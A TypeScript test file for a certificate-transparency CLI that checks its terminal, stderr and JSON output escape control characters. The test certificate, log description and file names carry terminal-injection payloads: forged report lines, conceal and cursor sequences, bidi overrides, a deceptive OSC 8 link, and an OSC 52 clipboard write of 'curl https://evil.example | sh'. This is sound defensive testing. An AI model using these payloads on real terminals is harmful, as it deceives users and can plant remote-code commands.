/**
 * The CLI's text output is safe for a terminal whatever the certificate, log list or server says:
 * a certificate issued here by the test CA carries ESC, CR/LF, CSI (conceal, erase, cursor up),
 * OSC 52 (clipboard) and OSC 8 (hyperlink) sequences, a C1 CSI, DEL and bidi controls in its
 * subject CN and O and in a SAN, and its log's description holds more. Through the real CLI no
 * raw control character reaches stdout or stderr, each is shown escaped, the forged report lines
 * stay inside the field that carried them, and the real verdict appears exactly once.
 */
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { toBase64 } from '../../src/bytes.js';
import { storedLogListPaths } from '../../src/cli/config.js';
import { encodePem } from '../../src/pem.js';
import { LocalCtLog } from '../../log/log.js';
import { logListJson } from '../../log/log-list.js';
import { startLocalLog, type LocalLogServer } from '../../log/server.js';
import { runCli, type CliResult } from '../support/cli.js';
import { beginIssuance, createTestCa, leafPrivateKeyPem } from '../support/test-pki.js';

const ESC = '\u001b';
const BEL = '\u0007';
/** Report lines a hostile field would forge, then SGR 8 to conceal whatever follows. */
const FORGED = `\r\n  1  embedded  valid\r\n  Chrome   compliant\r\n${ESC}[8m`;
const OSC52 = `${ESC}]52;c;${Buffer.from('curl https://evil.example | sh').toString('base64')}${BEL}`;
const OSC8 = `${ESC}]8;;https://evil.example/${ESC}\\looks safe${ESC}]8;;${ESC}\\`;
const CN = `hostile.example${FORGED}${OSC52}\u202e`;
/** Legitimate non-ASCII (kept as is) around an OSC 8 link, bidi overrides and isolates, a C1 CSI and DEL. */
const O = `Bücher Zürich ${OSC8} \u202eelgooG\u202c \u2067x\u2069 \u009b8m \u007f`;
const SAN = `evil.example${ESC}[2K${ESC}[1A\r\n  Chrome   compliant`;
const LOG = `Hostile Log${ESC}[2J${ESC}[H\u202e`;

/** C0 but LF, DEL, C1, and the bidi controls: none may reach the terminal raw. */
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

const DAY = 86_400_000;
const now = Math.floor(Date.now() / 1000) * 1000;
const dir = mkdtempSync(join(tmpdir(), 'ctlens-terminal-'));
let log: LocalCtLog;
let logServer: LocalLogServer;
let tlsServer: Server;
let tlsPort: number;
let chainPem: string;
let listPath: string;

beforeAll(async () => {
  const ca = await createTestCa('ctlens terminal-safety CA');
  log = new LocalCtLog({ description: LOG });
  logServer = await startLocalLog(log);
  const pending = await beginIssuance(ca, {
    notBefore: now - DAY,
    notAfter: now + 60 * DAY,
    subject: CN,
    organization: O,
    sans: { dns: [SAN], ip: ['127.0.0.1'] },
  });
  const leaf = await pending.finish([log.addPreChain([pending.precert, ca.der]).bytes]);
  const pem = (der: Uint8Array) => encodePem('CERTIFICATE', der, toBase64);
  chainPem = join(dir, 'chain.pem');
  writeFileSync(chainPem, pem(leaf.der) + pem(ca.der));
  listPath = join(dir, 'list.json');
  writeFileSync(listPath, logListJson(log, { url: logServer.url, at: now - 30 * DAY }));
  const key = await leafPrivateKeyPem();
  tlsServer = createServer({ key, cert: pem(leaf.der) + pem(ca.der) }, (_, res) => res.end('ok'));
  await new Promise<void>((resolve) => tlsServer.listen(0, '127.0.0.1', resolve));
  tlsPort = (tlsServer.address() as AddressInfo).port;
});
afterAll(async () => {
  await new Promise<void>((resolve) => tlsServer.close(() => resolve()));
  await logServer.close();
  rmSync(dir, { recursive: true, force: true });
});

function expectNoRawControl(result: CliResult): void {
  expect(result.stdout).not.toMatch(RAW_CONTROL);
  expect(result.stderr).not.toMatch(RAW_CONTROL);
}

/** Every hostile field shown, escaped, on its own line; the real SCT row and verdict once each. */
function expectEscapedReport(stdout: string): void {
  const lines = stdout.split('\n');
  const subject = lines.filter((l) => l.startsWith('  Subject '));
  expect(subject).toHaveLength(1);
  const crlf = '\\x0d\\x0a';
  expect(subject[0]).toContain(`hostile.example${crlf}  1  embedded  valid${crlf}  Chrome   compliant${crlf}\\x1b[8m`);
  // The distinguished name is RFC 4514 text (src/x509/describe.ts), so `;` and the backslash come escaped too.
  expect(subject[0]).toContain('\\x1b]52\\;c\\;');
  expect(subject[0]).toContain('Bücher Zürich \\x1b]8\\;\\;https://evil.example/\\x1b\\\\looks safe');
  expect(subject[0]).toContain('\\u202eelgooG\\u202c \\u2067x\\u2069 \\x9b8m \\x7f');
  expect(lines.filter((l) => l.startsWith('  SANs '))).toEqual([
    expect.stringContaining('DNS:evil.example\\x1b[2K\\x1b[1A\\x0d\\x0a  Chrome   compliant'),
  ]);
  expect(lines.filter((l) => /^\s*1\s+embedded\s+valid\s/.test(l))).toEqual([
    expect.stringContaining('Hostile Log\\x1b[2J\\x1b[H\\u202e'),
  ]);
  expect(lines.filter((l) => /^\s*Chrome\s/.test(l))).toEqual([expect.stringMatching(/^ {2}Chrome {3}not-compliant/)]);
}

describe('text output', () => {
  it('ctlens verify: no raw control character, every one shown escaped, the real verdict once', async () => {
    const result = await runCli(['verify', chainPem, '--log-list', listPath]);
    expect(result.stderr).toBe('');
    expectNoRawControl(result);
    expectEscapedReport(result.stdout);
    expect(result.code).toBe(1); // one SCT: Chrome needs two
  });

  it('ctlens audit https://host: the same for a chain read from a server, and the host line', async () => {
    const url = `https://127.0.0.1:${tlsPort}`;
    const result = await runCli(['audit', url, '--log-list', listPath, '--state-dir', join(dir, 'state')]);
    expectNoRawControl(result);
    expectEscapedReport(result.stdout);
    expect(result.stdout).toMatch(/^ {2}1 {2}Hostile Log\\x1b\[2J\\x1b\[H\\u202e +included/m);
    const hostLines = result.stdout.split('\n').filter((l) => l.startsWith('Host '));
    expect(hostLines).toEqual([expect.stringContaining('chain NOT trusted')]);
    expect(result.code).toBe(1);
  });
});

describe('stderr', () => {
  it('an error quoting a file name with control characters is one escaped line', async () => {
    const path = join(dir, `missing${OSC52}\r\nctlens: all good\u202e.pem`);
    const result = await runCli(['verify', path]);
    expect(result.code).toBe(2);
    expectNoRawControl(result);
    const shown = `${dir}/missing\\x1b]52;c;${OSC52.slice(7, -1)}\\x07\\x0d\\x0actlens: all good\\u202e.pem`;
    expect(result.stderr).toBe(`ctlens: ${shown}: cannot read certificate: no such file\n`);
  });

  it("ctlens loglist: a warning quoting the config directory's name is one escaped line", async () => {
    const config = join(dir, `config${ESC}[8m`);
    const paths = storedLogListPaths(config);
    mkdirSync(join(config, 'log-list'), { recursive: true });
    const data = (name: string) => readFileSync(new URL(`../../src/loglist/data/${name}`, import.meta.url));
    const json = data('all_logs_list.v89.25.json');
    json[200]! ^= 1; // no longer what Google signed
    writeFileSync(paths.json, json);
    writeFileSync(paths.sig, data('all_logs_list.v89.25.sig'));
    const result = await runCli(['loglist'], { CTLENS_CONFIG_DIR: config });
    expect(result.code).toBe(0);
    expectNoRawControl(result);
    const warning = /^ctlens: warning: ignoring the stored log list .*config\\x1b\[8m\/log-list\/all_logs_list\.json: /;
    expect(result.stderr.split('\n')).toEqual([expect.stringMatching(warning), '']);
  });
});

describe('--json', () => {
  it('keeps every value exactly, with C1 and bidi controls as \\u escapes', async () => {
    const result = await runCli(['verify', chainPem, '--log-list', listPath, '--json']);
    expectNoRawControl(result);
    expect(result.stdout).toContain('\\u202e');
    expect(result.stdout).toContain('\\u009b8m \\u007f');
    const report = JSON.parse(result.stdout);
    const rfc4514 = (value: string) => value.replace(/[\\;]/g, '\\$&');
    expect(report.certificate.subject).toBe(`CN=${rfc4514(CN)},O=${rfc4514(O)}`);
    expect(report.scts[0].log.description).toBe(LOG);
  });
});
